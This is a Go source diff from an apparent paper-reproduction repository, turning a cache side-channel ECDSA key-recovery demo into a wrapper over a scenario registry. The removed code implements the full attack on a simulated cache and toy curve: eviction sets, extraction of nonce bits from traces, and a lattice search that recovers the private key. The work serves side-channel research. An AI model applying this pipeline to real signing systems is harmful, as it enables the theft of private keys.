@@ -1,172 +1,46 @@
 // Key recovery: the complete attack chain, one step beyond the paper's
-// demonstration. The paper extracts nonce bits and cites lattice attacks
-// [LadderLeak, Howgrave-Graham–Smart] for the final step; here we run
-// that step too, on the exactly-solvable toy curve: the attacker monitors
-// signings through the cache side channel, anchors the extracted bit
-// stream at the ladder start, and feeds the leaked nonce MSBs into the
-// HNP lattice until the victim's PRIVATE KEY verifies against its public
-// point.
-//
-// Everything the attacker uses is attacker-visible: detection timestamps,
-// boundary spacing, public signatures, and the public key Q for candidate
-// verification. Ground truth is consulted only to report accuracy.
+// demonstration, as a thin wrapper over the scenario registry. Each
+// trial monitors signings through the cache side channel, anchors the
+// extracted bit stream at the ladder start, measures each nonce's ladder
+// length, and feeds the leaked MSBs into the HNP lattice until the
+// victim's sect163 PRIVATE KEY verifies against its public point.
+// Everything the attacker uses is attacker-visible; ground truth only
+// scores the result. The same pipeline runs from the command line as
+// `llcattack -scenario e2e/keyrecovery`.
 package main
 
 import (
 	"flag"
 	"fmt"
-	"math/big"
+	"log"
 
-	"repro/internal/attack"
-	"repro/internal/ec2m"
-	"repro/internal/evset"
-	"repro/internal/hierarchy"
-	"repro/internal/lattice"
-	"repro/internal/memory"
-	"repro/internal/probe"
-	"repro/internal/psd"
-	"repro/internal/xrand"
+	"repro/internal/scenario"
 )
 
-const knownBitsWanted = 8 // leaked MSBs per nonce fed to the lattice
-
 func main() {
-	seed := flag.Uint64("seed", 2024, "deterministic seed")
+	var (
+		seed     = flag.Uint64("seed", 2024, "deterministic seed")
+		trials   = flag.Int("trials", 2, "independent end-to-end trials")
+		parallel = flag.Int("parallel", 0, "trial workers (0 = GOMAXPROCS)")
+	)
 	flag.Parse()
 
-	cfg := hierarchy.Scaled(4).WithCloudNoise()
-	curve := ec2m.ToyCurve()
-	s := attack.NewSession(cfg, curve, *seed)
-	fmt.Printf("victim: ECDSA on %s (n = %v, %d-bit nonces), public key known\n",
-		curve.Name, curve.N, curve.N.BitLen())
-
-	p := psd.DefaultParams(s.V.ExpectedAccessPeriod())
-	_, ex, _ := s.TrainAll(p, xrand.New(*seed^0x5e))
-	m := probe.NewMonitor(s.Env, probe.Parallel, targetLines(s))
-
-	var leaks []lattice.Leak
-	aligned, total := 0, 0
-	for i := 0; len(leaks) < 14 && i < 120; i++ {
-		z := big.NewInt(int64(0xd16e57 + i))
-		rec := s.V.TriggerSignWithNonce(s.H.Clock().Now()+5000, z, randNonce(curve, *seed+uint64(i)))
-		tr := m.Capture(rec.End - s.H.Clock().Now() + 30_000)
-		bits := ex.Extract(tr)
-
-		leak, ok := leakFromTrace(bits, rec.Sig.R, rec.Sig.S, z, ex.IterCycles, curve.N.BitLen())
-		if !ok {
-			continue
+	rep, err := scenario.Run("e2e/keyrecovery", *trials, *parallel, *seed)
+	if err != nil {
+		log.Fatal(err)
+	}
+	agg := rep.Aggregate
+	fmt.Printf("e2e/keyrecovery: %s\n", rep.Desc)
+	for i, o := range rep.Outcomes {
+		verdict := "key NOT recovered"
+		if o.KeyRecovered {
+			verdict = "PRIVATE KEY RECOVERED (matches ground truth)"
 		}
-		total++
-		// Accuracy report (ground truth only for printing).
-		trueTop := new(big.Int).Rsh(rec.Nonce, uint(rec.Nonce.BitLen()-knownBitsWanted))
-		good := leak.KnownMSB.Cmp(trueTop) == 0
-		if good {
-			aligned++
-		}
-		fmt.Printf("signing %2d: leaked MSBs %0*b (truth %0*b) %v\n",
-			i+1, knownBitsWanted, leak.KnownMSB, knownBitsWanted, trueTop, mark(good))
-		leaks = append(leaks, leak)
+		fmt.Printf("trial %d: %s — %d leaks, %d lattice attempts, %.2f s of victim time\n",
+			i, verdict, o.Leaks, o.LatticeAttempts, o.TotalCycles.Seconds())
 	}
-	fmt.Printf("\ncollected %d leaks (%d correctly aligned)\n", len(leaks), aligned)
-
-	// Verify candidates against the PUBLIC key: d is real iff d·G == Q.
-	verify := func(d *big.Int) bool {
-		pt := curve.ScalarMult(d, curve.G)
-		return !pt.Inf && !s.V.Key.Q.Inf && pt.X.Equal(s.V.Key.Q.X) && pt.Y.Equal(s.V.Key.Q.Y)
-	}
-
-	// Some leaks may be misaligned (a missed leading iteration): try
-	// subsets until the lattice produces the verifying key.
-	rng := xrand.New(*seed ^ 0x1a771ce)
-	subset := make([]lattice.Leak, 0, 6)
-	for attempt := 0; attempt < 200; attempt++ {
-		subset = subset[:0]
-		for _, j := range rng.Perm(len(leaks))[:minInt(6, len(leaks))] {
-			subset = append(subset, leaks[j])
-		}
-		if d, ok := lattice.HNP(curve.N, subset, verify); ok {
-			fmt.Printf("\nPRIVATE KEY RECOVERED after %d lattice attempts: d = %v\n", attempt+1, d)
-			fmt.Printf("ground truth:                                  d = %v\n", s.V.Key.D)
-			return
-		}
-	}
-	fmt.Println("\nkey not recovered — increase signings or leaked bits")
-}
-
-// leakFromTrace turns extracted bits into an HNP leak using only
-// attacker-visible information: the first extracted boundary anchors
-// iteration 0 (the target set is quiet before the ladder) and
-// consecutive boundary spacing (~1 iteration) keeps the bit run
-// gap-free. The nonce is assumed full-length (kBits = n's bit length),
-// the standard LadderLeak-style assumption; shorter-nonce signatures
-// yield garbage leaks that the verified subset search discards.
-func leakFromTrace(bits []attack.ExtractedBit, r, sg, z *big.Int, iter float64, kBits int) (lattice.Leak, bool) {
-	if len(bits) < knownBitsWanted {
-		return lattice.Leak{}, false
-	}
-	run := []uint{}
-	for i := 0; i < len(bits) && len(run) < knownBitsWanted-1; i++ {
-		if i > 0 {
-			gap := float64(bits[i].At - bits[i-1].At)
-			if gap < 0.75*iter || gap > 1.3*iter {
-				break // a missed iteration would misalign everything below
-			}
-		}
-		run = append(run, bits[i].Bit)
-	}
-	if len(run) < knownBitsWanted-1 {
-		return lattice.Leak{}, false
-	}
-	if kBits <= knownBitsWanted {
-		return lattice.Leak{}, false
-	}
-	// Known MSBs: the implicit leading 1 followed by the run.
-	top := big.NewInt(1)
-	for _, b := range run {
-		top.Lsh(top, 1)
-		top.Or(top, big.NewInt(int64(b)))
-	}
-	return lattice.LeakFromTopBits(r, sg, z, top, kBits, knownBitsWanted), true
-}
-
-func targetLines(s *attack.Session) []memory.VAddr {
-	pool := evset.NewCandidates(s.Env, 2*evset.DefaultPoolSize(s.H.Config()), s.V.TargetOffset())
-	var out []memory.VAddr
-	for _, va := range pool.Addrs {
-		if s.Env.Main.SetOf(va) == s.V.TargetSet() {
-			out = append(out, va)
-			if len(out) == s.H.Config().SFWays {
-				return out
-			}
-		}
-	}
-	panic("no eviction set for the target")
-}
-
-func randNonce(c *ec2m.Curve, seed uint64) *big.Int {
-	rng := xrand.New(seed ^ 0x41ce)
-	for {
-		b := make([]byte, 3)
-		rng.Bytes(b)
-		k := new(big.Int).SetBytes(b)
-		k.Mod(k, c.N)
-		// Full-length nonces keep the leaked-prefix geometry uniform.
-		if k.BitLen() == c.N.BitLen() {
-			return k
-		}
-	}
-}
-
-func mark(ok bool) string {
-	if ok {
-		return "✓"
-	}
-	return "✗"
-}
-
-func minInt(a, b int) int {
-	if a < b {
-		return a
-	}
-	return b
+	fmt.Printf("\n%d/%d trials recovered the key (success rate %.0f%%, Wilson 95%% [%.0f%%, %.0f%%])\n",
+		agg.KeysRecovered, agg.Trials, 100*agg.SuccessRate, 100*agg.SuccessLo, 100*agg.SuccessHi)
+	fmt.Println("the paper extracts the nonce bits (§7.3) and cites lattice attacks")
+	fmt.Println("[LadderLeak, Howgrave-Graham–Smart] for this final step.")
 }
